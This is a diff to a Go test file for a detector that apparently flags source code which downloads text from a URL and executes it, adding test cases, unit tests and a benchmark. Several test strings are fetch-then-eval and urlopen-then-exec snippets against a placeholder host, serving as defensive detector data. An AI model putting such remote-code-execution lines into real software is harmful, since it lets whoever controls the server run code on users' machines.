@@ -3,6 +3,7 @@ package answers
 import (
 	"encoding/json"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -100,6 +101,11 @@ func TestWhatIsRunWhole(t *testing.T) {
 		{"a.py", "code = urlopen('https://a.example/v1/hook').read()\nexec(code)", true},
 		{"a.js", "const r = await fetch('https://a.example/v1/hook');\nconst body = await r.text();\nreturn /a/.exec(body);", false},
 		{"a.py", "text = urlopen('https://a.example/v1/hook').read()\nre.compile(text)", false},
+		{"a.js", "const r = await fetch('https://a.example/v1/hook'), t = await r.text(); eval('(' + t + ')')", true},
+		{"a.js", "const r = await fetch('https://a.example/v1/hook'), t = await r.text(); eval(token)", false},
+		{"a.js", "const r = await fetch('https://a.example/v1/hook'), t = await r.text(); eval(options.t)", false},
+		{"a.js", "const r = await fetch('https://a.example/v1/hook');\nconst t = element.textContent;\neval(t)", false},
+		{"a.js", "const r = await fetch('https://a.example/v1/hook');\nconst t = await r.text();\n" + strings.Repeat("log(t);\n", 900) + "eval(t)", false},
 	} {
 		got := false
 		for _, f := range Read(fstest.MapFS{c.file: {Data: []byte(c.source)}}) {
@@ -108,5 +114,46 @@ func TestWhatIsRunWhole(t *testing.T) {
 		if got != c.want {
 			t.Errorf("%s: %v", c.source, got)
 		}
+	}
+}
+
+// A text that is run by several names is one program, whatever decodes it.
+func TestProgramsAreNamedOnce(t *testing.T) {
+	t.Parallel()
+	source := "const r = await fetch('https://a.example/v1/hook'); eval(await r.text()); eval(await r.text()); new Function(r.text)()"
+	want := [][]string{{"a.example/v1/hook"}}
+	if got := programsOf(source, false); !reflect.DeepEqual(got, want) {
+		t.Errorf("%q", got)
+	}
+}
+
+// The names of code are those that come first, over all files.
+func TestCodeNamesStopWhenFull(t *testing.T) {
+	t.Parallel()
+	source := strings.Repeat("a.code; b['script']; c.get('formula'); d.title;", 9) + "e.expr; f.python; g.handler; h.hook; i.rule; j.plugin"
+	want := []string{"code", "script", "formula", "expr", "python", "handler", "hook", "rule"}
+	if got := codeNames(source, nil); !slices.Equal(got, want) {
+		t.Errorf("%q", got)
+	}
+	if got := codeNames("a.lambda; b.when", want[:7:7]); !slices.Equal(got, append(want[:7:7], "lambda")) {
+		t.Errorf("%q", got)
+	}
+}
+
+// minified is a file of one line, as bundlers write it.
+func minified(part string) string { return strings.Repeat(part, maxFile/len(part)) }
+
+func BenchmarkMinified(b *testing.B) {
+	for name, source := range map[string]string{
+		"texts":     minified("t=await(await e(n,{h:t})).text(),i(t.content,r[t],t?o:t(e)),"),
+		"evaluated": minified("t=await(await e(n)).text(),eval(e),Function(n),"),
+		"members":   minified("a.code,b.script,c.expr,d.python,e.handler,f.hook,g.rule,h.plugin,i.title,j.length,"),
+	} {
+		b.Run(name, func(b *testing.B) {
+			for b.Loop() {
+				programsOf(source, false)
+				codeNames(source, nil)
+			}
+		})
 	}
 }
